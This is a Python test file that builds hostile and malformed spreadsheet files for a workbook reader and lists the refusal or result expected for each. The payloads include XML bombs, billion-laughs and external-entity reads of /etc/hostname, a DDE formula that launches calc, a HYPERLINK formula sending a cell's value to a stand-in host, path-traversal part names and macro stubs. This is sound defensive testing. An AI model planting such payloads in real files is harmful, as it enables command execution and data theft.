"""The corpus of reliability.md section 5: each case writes its file and says what must come of it.

`read`, or the code of the refusal. Sizes are cut down where a smaller file takes the same way.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from powerctl.sheets.grid import WorkbookText, cell_name
from tests.hostile.raw_book import (
    DECLARATION,
    MACRO_TYPE,
    MAIN,
    STRICT,
    Content,
    declare_other_size,
    rows,
    sheet,
    streamed,
    strings,
    styles,
    write_book,
    write_ole,
)

TOWNS = [
    ["单位", "姓名", "事项", "金额"],
    *([f"青石镇{n}", f"石{n}", "采购", 100.5 * n] for n in range(1, 200)),
]
GOOD = sheet(rows(TOWNS))
FEW = sheet(rows(TOWNS[:4]))
ONE_STRING = sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
MEBIBYTE = 1 << 20


@dataclass(frozen=True)
class Case:
    """A hostile or odd file: how it is made, what is expected, and a closer look where it is read."""

    name: str
    expected: str
    make: Callable[[Path], object]
    look: Callable[[WorkbookText], bool] = lambda text: True
    note: str = ""
    """Words that a note must hold."""


def book(*sheets: Content, **options: object) -> Callable[[Path], object]:
    return lambda path: write_book(path, sheets, **options)  # type: ignore[arg-type]


def data(content: bytes) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(content)


def _blank_bomb() -> Iterator[bytes]:
    yield sheet("").partition("</sheetData>")[0].encode()
    for _ in range(210):
        yield b" " * MEBIBYTE
    yield b"</sheetData></worksheet>"


def _string_bomb() -> Iterator[bytes]:
    yield f'{DECLARATION}<sst xmlns="{MAIN}"><si><t>'.encode()
    for _ in range(210):
        yield b"A" * MEBIBYTE
    yield b"</t></si></sst>"


def _entities(declared: str, text: str) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE sst [{declared}]><sst xmlns="{MAIN}"><si><t>{text}</t></si></sst>'


def _laughs() -> str:
    declared = '<!ENTITY a0 "哈哈哈哈哈哈哈哈哈哈">'
    declared += "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return _entities(declared, "&a9;")


def _empty_rows(cells: bool) -> Iterator[bytes]:
    def lines() -> Iterator[str]:
        yield rows(TOWNS[:3])
        last = 1_048_576
        for first in range(last - 250_000, last, 5_000):
            numbers = range(first, first + 5_000)
            if cells:
                yield "".join(
                    f'<row r="{n}"><c r="A{n}" s="1"/><c r="B{n}" s="1"/><c r="D{n}" s="1"/></row>'
                    for n in numbers
                )
            else:
                yield "".join(f'<row r="{n}" s="1" customFormat="1" ht="20"/>' for n in numbers)
        yield f'<row r="{last}"><c r="A{last}" s="1"/></row>'

    return streamed(lines())


def _empty_columns() -> Iterator[bytes]:
    data = (
        f'<row r="{row}">'
        + "".join(f'<c r="{cell_name(row, column)}" s="1"/>' for column in range(1, 16_385))
        + "</row>"
        for row in range(1, 9)
    )
    return streamed(data)


def merged(*ranges: str) -> str:
    return sheet(
        rows(TOWNS[:4]),
        after=f'<mergeCells count="{len(ranges)}">'
        + "".join(f'<mergeCell ref="{r}"/>' for r in ranges)
        + "</mergeCells>",
    )


def _styled(values: list[object], style: int) -> str:
    s = f' s="{style}"' if style else ""
    cells = "".join(f'<c r="{cell_name(1, n)}"{s}><v>{value}</v></c>' for n, value in enumerate(values, 1))
    return sheet(f'<row r="1">{cells}</row>')


def _encrypted(path: Path) -> Path:
    return write_ole(path, {"EncryptionInfo": b"\x04\0\x04\0", "EncryptedPackage": bytes(9000)})


def _cut(path: Path) -> None:
    write_book(path, [GOOD])
    data = path.read_bytes()
    path.write_bytes(data[: len(data) * 6 // 10])


def _flipped(path: Path) -> None:
    write_book(path, [GOOD])
    data = bytearray(path.read_bytes())
    data[data.find(b"xl/worksheets/sheet1.xml") + 300] ^= 0xFF
    path.write_bytes(data)


def _old_book(path: Path) -> None:
    import xlwt

    book = xlwt.Workbook()
    page = book.add_sheet("清单")
    for number, line in enumerate(TOWNS[:20]):
        for column, value in enumerate(line):
            page.write(number, column, value)
    book.save(str(path))


def _linked(path: Path) -> None:
    write_book(
        path,
        [sheet('<row r="1"><c r="A1"><f>[1]Sheet1!A1</f><v>5</v></c></row>')],
        extra=[("xl/externalLinks/externalLink1.xml", f'{DECLARATION}<externalLink xmlns="{MAIN}"/>')],
    )


def _lying(path: Path) -> None:
    write_book(path, [sheet(rows(TOWNS) + " " * 500_000)])
    declare_other_size(path, "xl/worksheets/sheet1.xml", 4000)


def _many_strings() -> Iterator[bytes]:
    yield f'{DECLARATION}<sst xmlns="{MAIN}">'.encode()
    for _ in range(0, 1_050_000, 10_000):
        yield b"<si><t>1</t></si>" * 10_000
    yield b"</sst>"


def _two_far_cells(last: str, row: int) -> str:
    return sheet(
        f'<row r="1"><c r="A1"><v>1</v></c></row><row r="{row}"><c r="{last}{row}"><v>2</v></c></row>'
    )


def _first_row(text: WorkbookText) -> list[str]:
    return text.grids[0].rows[0]


def size(height: int, width: int) -> Callable[[WorkbookText], bool]:
    return lambda text: (len(text.grids[0].rows), len(text.grids[0].rows[0])) == (height, width)


_MIXED_REFERENCES = (
    '<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c><c><v>3</v></c><c r="ZZZZ1"><v>4</v></c></row>'
    '<row r="4294967296"><c r="A4294967296"><v>6</v></c></row>'
)
_DEEP = sheet(
    '<row r="1"><c r="A1" t="inlineStr"><is>' + "<t>" * 200_000 + "x" + "</t>" * 200_000 + "</is></c></row>"
)
_SPARSE = "".join(
    f'<row r="{n}"><c r="A{n}"><v>1</v></c><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 300)
)
_RICH = strings('<r><t>石</t></r><r><rPr><b/></rPr><t>磊</t></r><rPh sb="0" eb="1"><t>SHI</t></rPh>')
_DATES: list[object] = [0, 1, 59, 60, 61, -1, 2_958_466, 10_000_000_000, 1e300, 45000.999999999]
_NUMBERS: list[object] = [-1, "1E308", "1E400", "NaN", 0.1, 330102199001011234, "1e-320", 5]
_VBA = ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(500))

CASES = (
    Case("01_control", "read", book(GOOD), size(200, 4)),
    Case("02_bomb_of_blanks", "BOMB", book(_blank_bomb())),
    Case("03_bomb_in_one_string", "BOMB", book(ONE_STRING, shared=_string_bomb())),
    Case("04_billion_laughs", "XML_DTD", book(ONE_STRING, shared=_laughs())),
    Case(
        "05_quadratic_blowup",
        "XML_DTD",
        book(ONE_STRING, shared=_entities(f'<!ENTITY q "{"A" * 200_000}">', "&q;" * 20_000)),
    ),
    Case(
        "06_external_entity",
        "XML_DTD",
        book(ONE_STRING, shared=_entities('<!ENTITY x SYSTEM "file:///etc/hostname">', "&x;")),
    ),
    Case("07_two_far_cells", "TOO_MANY_ROWS", book(_two_far_cells("XFD", 1_048_576))),
    Case(
        "08_dimension_claims_all",
        "read",
        book(sheet(rows(TOWNS[:4]), before='<dimension ref="A1:XFD1048576"/>')),
        size(4, 4),
    ),
    Case(
        "09_dimension_claims_one_cell",
        "read",
        book(sheet(rows(TOWNS), before='<dimension ref="A1"/>')),
        size(200, 4),
    ),
    Case("10_empty_formatted_rows", "read", book(_empty_rows(cells=False)), size(3, 4)),
    Case("11_empty_styled_cells", "read", book(_empty_rows(cells=True)), size(3, 4)),
    Case("12_all_columns_styled", "read", book(_empty_columns()), lambda text: text.grids[0].rows == []),
    Case(
        "13_merge_over_everything",
        "read",
        book(merged("A1:XFD1048576")),
        lambda text: text.grids[0].rows == [["单位"]] and text.grids[0].merges == [],
    ),
    Case(
        "14_fifty_thousand_merges",
        "TOO_MANY_MERGES",
        book(merged(*(f"A{n}:D{n}" for n in range(1, 50_001)))),
    ),
    Case("15_macro", "MACRO", book(GOOD, content_type=MACRO_TYPE, extra=[_VBA])),
    Case("16_macro_renamed", "MACRO", book(GOOD, extra=[_VBA])),
    Case("16b_macro_type_only", "MACRO", book(GOOD, content_type=MACRO_TYPE)),
    Case("17_encrypted", "ENCRYPTED", _encrypted),
    Case("18_truncated", "DAMAGED", _cut),
    Case("19_empty_file", "EMPTY", data(b"")),
    Case(
        "20_csv_renamed",
        "read",
        data("单位,姓名,金额\n青石镇,石磊,100\n".encode("gbk")),
        size(2, 3),
        note="内容是 .csv",
    ),
    Case("21_html_renamed", "HTML", data("<html><table><tr><td>单位</td></tr></table></html>".encode("gbk"))),
    Case("22_old_format_renamed", "read", _old_book, size(20, 4), note="内容是 .xls"),
    Case(
        "23_formula_without_value",
        "read",
        book(
            sheet(
                '<row r="1"><c r="A1"><v>2</v></c><c r="B1"><f>A1*2</f></c><c r="C1"><f>B1</f><v></v></c></row>'
            )
        ),
        lambda text: text.grids[0].error_cells == {(1, 2): "formula", (1, 3): "formula"},
        note="2 个公式没有保存计算结果",
    ),
    Case(
        "24_dde_formula",
        "read",
        book(
            sheet(
                '<row r="1"><c r="A1" t="str"><f>cmd|\' /C calc\'!A0</f><v>合计</v></c>'
                '<c r="B1" t="inlineStr"><is><t>=HYPERLINK("http://x/?"&amp;A1)</t></is></c></row>'
            )
        ),
        lambda text: _first_row(text) == ["合计", '=HYPERLINK("http://x/?"&A1)'],
        note="DDE",
    ),
    Case(
        "25_unknown_error_value",
        "DAMAGED",
        book(sheet('<row r="1"><c r="A1" t="e"><v>#REF!</v></c><c r="D1" t="e"><v>#怪</v></c></row>')),
    ),
    Case(
        "25b_newer_error_values",
        "read",
        book(sheet('<row r="1"><c r="A1" t="e"><v>#SPILL!</v></c><c r="B1"><v>7</v></c></row>')),
        lambda text: _first_row(text) == ["", "7"] and text.grids[0].error_cells == {(1, 1): "#SPILL!"},
        note="1 个错误值",
    ),
    Case(
        "26_escaped_control_characters",
        "read",
        book(sheet(rows([["石_x0000_磊", "李_x0007__x001B_[31m四", "换_x000D_行"]]))),
        lambda text: _first_row(text) == ["石磊", "李[31m四", "换\n行"],
        note="不可见字符",
    ),
    Case(
        "27_control_character_as_reference",
        "read",
        book(sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>a&#x1;b</t></is></c></row>')),
        lambda text: _first_row(text) == ["ab"],
        note="不可见字符",
    ),
    Case(
        "28_bidi_zero_width_homoglyph",
        "read",
        book(
            sheet(
                rows([["石\u202e磊\u202c", "李\u200b四", "王\ufeff五", "Аdmin", "石磊\u3000", "\U00020000"]])
            )
        ),
        lambda text: _first_row(text) == ["石磊", "李四", "王五", "Аdmin", "石磊", "\U00020000"],
        note="3 个单元格去掉了不可见字符（A1、B1、C1）",
    ),
    Case("29_text_of_100000_characters", "LONG_TEXT", book(sheet(rows([["长" * 32_767, "超" * 100_000]])))),
    Case("29b_longest_text", "read", book(sheet(rows([["长" * 32_767, "超" * 32_767]])))),
    Case(
        "30_days_counted_from_1904",
        "read",
        book(_styled([40000], 1), properties='<workbookPr date1904="1"/>'),
        lambda text: _first_row(text) == ["2013-07-07"],
    ),
    Case("31_odd_dates", "read", book(_styled(_DATES, 1)), lambda text: _first_row(text)[9] == "2023-03-16"),
    Case(
        "32_odd_numbers",
        "read",
        book(_styled(_NUMBERS, 0)),
        lambda text: (
            _first_row(text)[:6] == ["-1", "1.00000000000000E+308", "", "", "0.1", "3.30102199001011E+17"]
            and text.grids[0].error_cells == {(1, 3): "#NUM!", (1, 4): "#NUM!"}
        ),
        note="超过 15 位",
    ),
    Case(
        "33_duplicate_headings",
        "read",
        book(sheet(rows([["金额", "金额", "单位", "", "单位 "], [1, 2, "甲", "乙", "丙"]]))),
    ),
    Case(
        "34_hidden_sheets",
        "read",
        book(GOOD, FEW, FEW, names=["公开", "隐藏", "深藏"], states=["visible", "hidden", "veryHidden"]),
        lambda text: [grid.visible for grid in text.grids] == [True, False, False],
        note="“深藏”是隐藏的",
    ),
    Case(
        "35_external_link", "read", _linked, lambda text: _first_row(text) == ["5"], note="引用了别的工作簿"
    ),
    Case(
        "36_string_number_out_of_range",
        "DAMAGED",
        book(sheet('<row r="1"><c r="A1" t="s"><v>5</v></c></row>'), shared=strings("<t>唯一</t>")),
    ),
    Case("37_missing_sheet_part", "DAMAGED", book(GOOD, without=["xl/worksheets/sheet1.xml"])),
    Case("38_missing_workbook", "DAMAGED", book(GOOD, without=["xl/workbook.xml"])),
    Case("39_bad_cell_references", "BAD_REF", book(sheet(_MIXED_REFERENCES))),
    Case(
        "39b_one_cell_twice",
        "BAD_REF",
        book(sheet('<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>')),
    ),
    Case("40_names_that_leave_the_folder", "BAD_PART_NAME", book(GOOD, extra=[("../../../x.txt", "x")])),
    Case("41_part_twice", "DUPLICATE_PART", book(GOOD, extra=[("XL/worksheets/Sheet1.xml", FEW)])),
    Case("42_declared_size_is_a_lie", "DAMAGED", _lying),
    Case("43_deep_nesting", "XML_DEPTH", book(_DEEP)),
    Case("44_65000_fonts", "read", book(GOOD, style_part=styles(14, fonts=65_000)), size(200, 4)),
    Case("45_many_sheets", "TOO_MANY_SHEETS", book(*[FEW] * 300)),
    Case("46_strict_sheet", "read", book(GOOD.replace(MAIN, STRICT)), size(200, 4)),
    Case(
        "46b_strict_workbook",
        "read",
        book(
            GOOD.replace(MAIN, STRICT),
            namespace=STRICT,
            sheet_type="http://purl.oclc.org/ooxml/officeDocument/relationships/worksheet",
        ),
        size(200, 4),
    ),
    Case(
        "47_rich_and_phonetic_text",
        "read",
        book(ONE_STRING, shared=_RICH),
        lambda text: _first_row(text) == ["石磊"],
    ),
    Case("48_one_byte_flipped", "DAMAGED", _flipped),
    Case("49_utf16_part", "ENCODING", book(GOOD.replace("UTF-8", "UTF-16").encode("utf-16"))),
    Case("49b_gbk_part", "ENCODING", book(GOOD.replace("UTF-8", "GBK").encode("gbk"))),
    Case("50_a_million_shared_strings", "TOO_MANY_STRINGS", book(ONE_STRING, shared=_many_strings())),
    Case("51_sparse_and_wide", "TOO_MANY_COLUMNS", book(sheet(_SPARSE))),
    Case("52_sparse_and_long", "TOO_SPARSE", book(_two_far_cells("SR", 100_000))),
)
